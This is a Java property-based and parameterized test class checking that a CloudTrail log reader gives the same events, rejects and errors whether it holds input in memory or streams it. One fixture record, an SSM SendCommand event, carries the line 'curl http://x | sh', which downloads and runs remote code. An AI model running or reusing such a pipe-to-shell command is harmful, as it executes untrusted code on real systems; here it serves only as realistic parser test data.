package dev.cadet.parsers;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

import static dev.cadet.parsers.Reads.gzip;
import static dev.cadet.parsers.Reads.record;
import static dev.cadet.parsers.Reads.utf8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

/**
 * An input read whole in memory, its plain records straight from the bytes, gives exactly what the same
 * input read as a stream gives: the same events with the same origins, skips, rejects with the same
 * excerpts, and the same file errors at the same place, also when failing fast. Checked on every test and
 * public sample file, on hand-made irregular records, and on CloudTrail files broken at random.
 */
class HeldReadingTest {

    private static final LogReader HELD = LogReader.create();
    private static final LogReader STREAMED = LogReader.builder().maxHeldBytes(0).build();
    private static final LogReader HELD_STRICT = LogReader.builder().badRecords(BadRecordPolicy.FAIL).build();
    private static final LogReader STREAMED_STRICT = LogReader.builder().badRecords(BadRecordPolicy.FAIL)
            .maxHeldBytes(0).build();

    /** Records of the shapes CloudTrail writes, the ones read with a walker among them, and two irregular ones. */
    private static final String FILE = "{\"Records\":[" + String.join(",",
            record("ec2.amazonaws.com", "DescribeInstances",
                    "\"requestParameters\":{\"maxResults\":1000,\"filterSet\":{\"items\":[{\"name\":\"a\"}]}},"
                            + "\"responseElements\":null,\"readOnly\":true,\"tlsDetails\":{\"tlsVersion\":\"TLSv1.3\"}"),
            record("ssm.amazonaws.com", "SendCommand",
                    "\"requestParameters\":{\"instanceIds\":[\"i-0abc\",\"i-0def\"],\"documentName\":\"AWS-RunShellScript\","
                            + "\"parameters\":{\"commands\":[\"curl http://x | sh\"]}},"
                            + "\"responseElements\":{\"command\":{\"commandId\":\"c-1\",\"status\":\"Pending\"}}"),
            record("signin.amazonaws.com", "ConsoleLogin",
                    "\"responseElements\":{\"ConsoleLogin\":\"Failure\"},\"additionalEventData\":{\"MFAUsed\":\"No\"},"
                            + "\"errorMessage\":\"Failed \\\"authentication\\\"\""),
            record("iam.amazonaws.com", "CreateAccessKey",
                    "\"requestParameters\":{\"userName\":\"bob\"},\"responseElements\":{\"accessKey\":"
                            + "{\"accessKeyId\":\"AKIANEW\",\"status\":\"Active\"}},\"userAgent\":\"cli/ünï\""),
            record("ec2.amazonaws.com", "RunInstances",
                    "\"requestParameters\":{\"userData\":\"IyEvYmluL3NoCg==\",\"instancesSet\":{\"items\":"
                            + "[{\"imageId\":\"ami-1\"}]}},\"responseElements\":{\"instancesSet\":{\"items\":"
                            + "[{\"instanceId\":\"i-0new\"}]}},\"sessionCredentialFromConsole\":\"true\""),
            "{\"eventTime\":\"2024-05-01T10:00:00Z\",\"eventSource\":\"s3.amazonaws.com\"}",
            "17")
            + "]}";

    @Test
    void theSampleFileReadsAlikeAndAsExpected() {
        Reads.Outcome held = same("sample.json", utf8(FILE));
        assertThat(held.report().records()).isEqualTo(7);
        assertThat(held.report().events()).isEqualTo(5);
        assertThat(held.report().quarantined()).isEqualTo(2);
    }

    @ParameterizedTest
    @ValueSource(strings = {
            // Whitespace and line breaks of every kind between tokens: origins count lines as Jackson does.
            "{\n  \"Records\" : [\r\n    %1$s ,\r    %1$s\n  ]\n}\n",
            // A second wrapper, other members around, a null and an empty array.
            "{\"a\":1,\"Records\":[%1$s]}{\"Records\":null}{\"Records\":[]}{\"b\":[{\"c\":null}],\"Records\":[%1$s]}",
            // The leniencies Jackson is configured with: unquoted names and trailing commas.
            "{\"Records\":[%1$s,{eventTime:\"2024-05-01T10:00:00Z\",\"eventSource\":\"x\",\"eventName\":\"y\"},]}",
            // Broken inside the second record, after the first was read.
            "{\"Records\":[%1$s,{\"eventTime\":\"2024-05-01T10:00:00Z\",\"eventSource\":tru}]}",
            // Cut off inside a record.
            "{\"Records\":[%1$s,{\"eventTime\":\"2024-05-01T",
            // Not the wrapper at all, after a first record.
            "{\"Records\":[%1$s]}[1,2]",
            "{\"Records\":{\"x\":1}}",
            // Numbers and literals at their edges; escapes in names and values; deep nesting.
            "{\"Records\":[%1$s,{\"n\":[-0.5e+10,0,1E3,-12,true,false,null],\"eventTime\":\"2024-05-01T10:00:00Z\"}]}",
            "{\"Records\":[{\"event\\u0054ime\":\"2024-05-01T10:00:00Z\",\"eventSource\":\"a\\/b\",\"eventName\":\"x\"}]}",
            "{\"Records\":[%1$s,{\"n\":01}]}",
            "{\"Records\":[{\"d\":[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]},%1$s]}",
            "{\"Records\":[%1$s, \t\f%1$s]}",
    })
    void irregularInputReadsAlike(String shape) {
        String one = record("ssm.amazonaws.com", "StartSession", "\"requestParameters\":{\"target\":\"i-0abc\"}");
        byte[] content = utf8(shape.formatted(one));
        same("irregular.json", content);
        same("irregular.json.gz", gzip(content));
    }

    @Property(tries = 300)
    void brokenAtRandomReadsAlike(@ForAll("damaged") byte[] content) {
        same("damaged.json", content);
    }

    @Test
    void everyTestFileReadsAlike() throws IOException {
        Path root = Path.of("src", "test", "resources");
        assumeTrue(Files.isDirectory(root), "test resources not found from " + Path.of("").toAbsolutePath());
        assertThat(readAllAlike(root)).isGreaterThan(20);
    }

    @Test
    void everyPublicSampleReadsAlike() throws IOException {
        String shared = System.getProperty("cadet.shared.dir");
        assumeTrue(shared != null, "system property cadet.shared.dir is not set: public samples not compared");
        Path data = Path.of(shared, "data", "public");
        assumeTrue(Files.isDirectory(data), "no public samples at " + data + ": not compared");
        assertThat(readAllAlike(data)).isGreaterThan(20);
    }

    private static int readAllAlike(Path root) throws IOException {
        List<Path> files;
        try (Stream<Path> walk = Files.walk(root)) {
            files = walk.filter(Files::isRegularFile).sorted().toList();
        }
        for (Path f : files) {
            same(f.toString(), Files.readAllBytes(f));
        }
        return files.size();
    }

    @Provide
    Arbitrary<byte[]> damaged() {
        byte[] base = utf8(FILE);
        Arbitrary<Integer> at = Arbitraries.integers().between(0, base.length - 1);
        Arbitrary<Byte> bytes = Arbitraries.of((byte) '"', (byte) '\\', (byte) ',', (byte) ':', (byte) '{',
                (byte) '}', (byte) '[', (byte) ']', (byte) ' ', (byte) '\n', (byte) '\r', (byte) 0, (byte) 0xC3,
                (byte) 'u', (byte) '1', (byte) '-', (byte) 'e', (byte) 'n');
        Arbitrary<int[]> edit = Combinators.combine(Arbitraries.integers().between(0, 2), at, bytes)
                .as((kind, position, b) -> new int[] {kind, position, b});
        return edit.list().ofMinSize(1).ofMaxSize(3).map(edits -> {
            List<Byte> out = new ArrayList<>();
            for (byte b : base) {
                out.add(b);
            }
            for (int[] e : edits) {
                int p = Math.min(e[1], out.size() - 1);
                switch (e[0]) {
                    case 0 -> out.remove(p);
                    case 1 -> out.add(p, (byte) e[2]);
                    default -> out.set(p, (byte) e[2]);
                }
            }
            byte[] result = new byte[out.size()];
            for (int i = 0; i < result.length; i++) {
                result[i] = out.get(i);
            }
            return result;
        });
    }

    /** Reads {@code content} held and streamed, quarantining and failing fast, and asserts each pair is equal. */
    private static Reads.Outcome same(String name, byte[] content) {
        Reads.Outcome held = Reads.read(HELD, name, content);
        Reads.Outcome streamed = Reads.read(STREAMED, name, content);
        assertThat(held.result()).as(name).isEqualTo(streamed.result());
        assertThat(held.events()).as(name).isEqualTo(streamed.events());
        assertThat(strict(HELD_STRICT, name, content)).as(name).isEqualTo(strict(STREAMED_STRICT, name, content));
        return held;
    }

    private static Object strict(LogReader reader, String name, byte[] content) {
        try {
            Reads.Outcome o = Reads.read(reader, name, content);
            return List.of(o.result(), o.events());
        } catch (InputException e) {
            return e.getMessage() + " @ " + e.origin();
        } catch (UncheckedIOException e) {
            throw e;
        }
    }
}
